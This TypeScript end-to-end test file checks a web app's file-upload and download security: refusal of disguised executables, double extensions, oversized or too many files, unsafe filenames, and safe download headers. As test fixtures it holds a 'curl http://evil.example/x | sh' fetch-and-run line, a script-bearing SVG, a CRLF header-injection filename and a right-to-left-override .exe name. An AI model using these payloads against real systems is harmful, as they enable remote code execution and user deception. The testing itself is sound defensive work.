import {
  DISGUISED,
  docx,
  expectClean,
  expectError,
  jpeg,
  listFiles,
  multipart,
  pdf,
  png,
  xlsx,
} from '../e2e/support/files.js';
import type { Response } from 'supertest';
import { makeTask } from '../e2e/support/fixtures.js';
import { startTestApp, type TestApp } from '../e2e/support/test-app.js';

/**
 * Uploads, beyond test/e2e/bad-input.e2e-spec.ts (disguised payloads named .pdf, a PNG named .pdf, one
 * oversized file, paths and quotes in names): disguised executables under every allowed extension,
 * executable and double extensions, control and bidi characters and over-long names, too many files;
 * and the headers of every download.
 */

const LEAD = 'ban-tuyen-giao';
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>\n');
const MACHO = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]), Buffer.alloc(120)]);
const EXECUTABLES: Record<string, Buffer> = { ...DISGUISED, script: SCRIPT, svg: SVG, macho: MACHO };
const ALLOWED_EXTENSIONS = ['pdf', 'docx', 'xlsx', 'png', 'jpg', 'jpeg'];

function binary(res: Response, done: (err: Error | null, body: Buffer) => void): void {
  // In Node, superagent hands the parser the incoming message stream.
  const stream = res as unknown as NodeJS.ReadableStream;
  const chunks: Buffer[] = [];
  stream.on('data', (c: Buffer) => chunks.push(c));
  stream.on('end', () => done(null, Buffer.concat(chunks)));
  stream.on('error', (e: Error) => done(e, Buffer.alloc(0)));
}

describe('uploads and downloads', () => {
  let t: TestApp;
  let lead: { Authorization: string };
  beforeAll(async () => {
    t = await startTestApp();
    lead = await t.as(LEAD);
  });
  afterAll(() => t.close());

  const freshTask = () => makeTask(t.db, { state: 'in_progress', lead: LEAD });
  const stored = async (taskId: string) =>
    (await t.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM attachments WHERE task_id = $1`, [taskId])).rows[0]
      .n;
  /** A hand-built multipart body, so names reach the server byte for byte. */
  const post = (taskId: string, files: { filename: string; data: Buffer; contentType?: string }[]) => {
    const form = multipart([
      { name: 'note', data: 'Sản phẩm' },
      ...files.map((f) => ({
        name: 'files',
        filename: f.filename,
        contentType: f.contentType ?? 'application/pdf',
        data: f.data,
      })),
    ]);
    return t.http
      .post(`/api/tasks/${taskId}/submissions`)
      .set(lead)
      .set('Content-Type', form.contentType)
      .send(form.body);
  };

  it('refuses an executable, a script or an SVG under every allowed extension (415), storing nothing', async () => {
    const task = await freshTask();
    const before = listFiles(t.config.storageDir);
    const accepted: string[] = [];
    for (const [kind, data] of Object.entries(EXECUTABLES)) {
      for (const ext of ALLOWED_EXTENSIONS) {
        const res = await post(task.id, [{ filename: `bao-cao.${ext}`, data }]);
        expectClean(res);
        if (res.status !== 415 || res.body.code !== 'FILE_TYPE_NOT_ALLOWED')
          accepted.push(`${kind} as .${ext}: ${res.status}`);
      }
    }
    expect(accepted).toEqual([]);
    expect(await stored(task.id)).toBe(0);
    expect(listFiles(t.config.storageDir)).toEqual(before);
  });

  it('refuses executable and double extensions even around real documents', async () => {
    const task = await freshTask();
    const cases: [string, Buffer][] = [
      ['setup.exe', DISGUISED.exe],
      ['bao-cao.pdf.exe', pdf()],
      ['bao-cao.exe', pdf()],
      ['bao-cao.pdf.sh', pdf()],
      ['bao-cao.html', DISGUISED.html],
      ['bao-cao.svg', SVG],
      ['bao-cao.docm', docx()],
      ['bao-cao.PDF.js', pdf()],
    ];
    for (const [filename, data] of cases)
      expectError(await post(task.id, [{ filename, data }]), 415, 'FILE_TYPE_NOT_ALLOWED');
    expect(await stored(task.id)).toBe(0);
  });

  it('names with control, bidi or reserved characters, or far too long, are refused or made plain', async () => {
    const task = await freshTask();
    const names = [
      'bao-cao\u202Efdp.exe', // right-to-left override: displays as "bao-caoexe.pdf"
      'bao\u0007cao\u001b[31m.pdf',
      'bao-cao\r\nX-Injected: 1.pdf',
      `${'a'.repeat(1000)}.pdf`,
      'CON.pdf',
      '.pdf',
      '%2e%2e%2fbao-cao.pdf',
    ];
    for (const filename of names) {
      const res = await post(task.id, [{ filename, data: pdf() }]);
      expectClean(res);
      expect([201, 400, 415]).toContain(res.status);
      if (res.status !== 201) continue;
      // A raw CR LF ends the part's header line: the rest is no longer a file name (a field at most).
      if (!res.body.files.length) {
        expect(filename).toMatch(/\r\n/);
        continue;
      }
      const name: string = res.body.files[0].fileName;
      // eslint-disable-next-line no-control-regex
      expect(name).not.toMatch(/[\u0000-\u001f\u007f\u202a-\u202e\u2066-\u2069/\\]/);
      expect(name.length).toBeLessThanOrEqual(255);
      if (filename.includes('\u202E')) expect(name.endsWith('.exe')).toBe(false);
      const dl = await t.http.get(res.body.files[0].downloadUrl).set(lead).buffer(true).parse(binary);
      expect(dl.status).toBe(200);
      expect(dl.headers['x-injected']).toBeUndefined();
      // eslint-disable-next-line no-control-regex
      expect(String(dl.headers['content-disposition'])).not.toMatch(/[\u0000-\u001f\u007f]/);
    }
  });

  it('refuses more files than a submission may carry (nothing stored)', async () => {
    const task = await freshTask();
    const max = t.config.maxFilesPerSubmission;
    const res = await post(
      task.id,
      Array.from({ length: max + 1 }, (_, i) => ({ filename: `phan-${i}.pdf`, data: pdf(`phần ${i}`) })),
    );
    expectClean(res);
    expect([400, 413]).toContain(res.status);
    expect(await stored(task.id)).toBe(0);
  });

  it('an oversized file among small ones refuses the whole submission (413, nothing stored)', async () => {
    const small = await startTestApp({ MAX_UPLOAD_MB: '0.01' });
    try {
      const task = await makeTask(small.db, { state: 'in_progress', lead: LEAD });
      const res = await small.http
        .post(`/api/tasks/${task.id}/submissions`)
        .set(await small.as(LEAD))
        .attach('files', pdf(), 'nho.pdf')
        .attach('files', pdf('x'.repeat(20_000)), 'lon.pdf');
      expectError(res, 413, 'PAYLOAD_TOO_LARGE');
      // The answer says the limit (MAX_UPLOAD_MB=0.01).
      expect(res.body.details).toEqual({ limitBytes: Math.round(0.01 * 1024 * 1024) });
      expect(res.body.message).toContain('0.01 MB');
      const n = await small.db.query(`SELECT 1 FROM attachments WHERE task_id = $1`, [task.id]);
      expect(n.rowCount).toBe(0);
    } finally {
      await small.close();
    }
  });

  it.each([
    ['PDF', () => pdf(), 'Báo cáo.pdf', 'application/pdf'],
    ['PNG', png, 'Biểu đồ.png', 'image/png'],
    ['JPEG', jpeg, 'Ảnh.jpg', 'image/jpeg'],
    ['DOCX', () => docx(), 'Đề án.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['XLSX', xlsx, 'Tiến độ.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
  ] as const)(
    'a %s downloads as an attachment, with its own type, nosniff and a strict policy',
    async (_k, make, name, mime) => {
      const task = await freshTask();
      // The client's claimed type is ignored: the server decides from the content.
      const res = await post(task.id, [{ filename: name, data: make(), contentType: 'text/html' }]);
      expect(res.status).toBe(201);
      const dl = await t.http.get(res.body.files[0].downloadUrl).set(lead).buffer(true).parse(binary);
      expect(dl.status).toBe(200);
      expect(dl.headers['content-type']).toBe(mime);
      expect(String(dl.headers['content-disposition'])).toMatch(/^attachment;/);
      expect(dl.headers['x-content-type-options']).toBe('nosniff');
      expect(String(dl.headers['content-security-policy'])).toContain("default-src 'self'");
      expect(dl.headers['x-powered-by']).toBeUndefined();
    },
  );
});
